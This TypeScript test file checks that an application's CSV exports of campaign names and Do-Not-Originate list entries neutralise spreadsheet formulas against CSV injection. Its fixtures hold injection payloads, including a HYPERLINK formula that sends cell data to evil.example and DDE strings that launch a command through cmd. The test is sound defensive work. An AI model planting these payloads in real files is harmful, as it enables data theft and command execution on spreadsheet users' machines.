import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createHarness, type Harness } from './testing/harness';

/**
 * Every CSV hoptrace writes is opened in spreadsheets: no cell may start a formula (CSV injection).
 * Each export is fed text that would run, and its raw lines are read back.
 */

const FORMULAS = {
  equals: '=HYPERLINK("http://evil.example/?x="&A1,"open")',
  plus: "+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  // Trimmed on the way in, so it is stored (and must be written) as =1+1.
  tab: '\t=1+1',
};
/** Each as stored (trimmed) and as the export must write it: behind a single quote. */
const WRITTEN = Object.values(FORMULAS).map((f) => `'${f.trim()}`);

let h: Harness;
beforeAll(async () => {
  h = await createHarness();
});
afterAll(() => h.close());

/** The cells of a CSV line, split by a small RFC 4180 reader (quotes, doubled quotes, commas inside). */
function cells(line: string): string[] {
  const out: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const ch = line[i]!;
    if (quoted) {
      if (ch === '"' && line[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      out.push(cell);
      cell = '';
    } else cell += ch;
  }
  out.push(cell);
  return out;
}

const startsAFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^\+\d{1,15}$/.test(cell);

describe('CSV exports neutralise formulas', () => {
  it('the hop export: a campaign name that would run is written as text', async () => {
    const p = await h.provider();
    for (const name of Object.values(FORMULAS)) {
      const campaign = await h.analyst.post('/api/v1/campaigns', { name, description: 'fictional' });
      expect(campaign.statusCode, campaign.body).toBe(201);
      await h.openTraceback(p.id, { campaignId: campaign.json<{ id: string }>().id });
    }
    const res = await p.user.get('/api/v1/hops/export.csv?status=pending');
    expect(res.statusCode).toBe(200);
    const [header, ...rows] = res.body.trimEnd().split('\r\n');
    const column = cells(header!).indexOf('campaign');
    const campaigns = rows.map((r) => cells(r)[column]!);
    expect(campaigns.sort()).toEqual([...WRITTEN].sort());
    for (const row of rows) for (const cell of cells(row)) expect(startsAFormula(cell), cell).toBe(false);
    // Phone numbers stay E.164, readable as they are.
    const calling = cells(header!).indexOf('calling_number');
    expect(rows.map((r) => cells(r)[calling])).toEqual(rows.map(() => '+12025550143'));
  });

  it('the DNO list: source, reason, organisation and evidence that would run are written as text', async () => {
    const entries = Object.values(FORMULAS).map((f, i) => ({
      category: 'subscriber_requested',
      number: `+1202555${String(200 + i).padStart(4, '0')}`,
      source: f,
      reason: f,
      organisation: f,
      evidence: f,
    }));
    const added = await h.analyst.post('/api/v1/dno/entries', { entries });
    expect(added.statusCode, added.body).toBe(200);
    const res = await h.analyst.get('/api/v1/dno/list?format=csv');
    expect(res.statusCode).toBe(200);
    const [header, ...rows] = res.body.trimEnd().split('\r\n');
    expect(rows).toHaveLength(entries.length);
    const at = (name: string) => cells(header!).indexOf(name);
    for (const row of rows) {
      const c = cells(row);
      for (const cell of c) expect(startsAFormula(cell), cell).toBe(false);
      for (const col of ['source', 'reason', 'organisation', 'evidence'])
        expect(WRITTEN).toContain(c[at(col)]);
      expect(c[at('start')]).toMatch(/^\+1202555\d{4}$/);
    }
  });
});
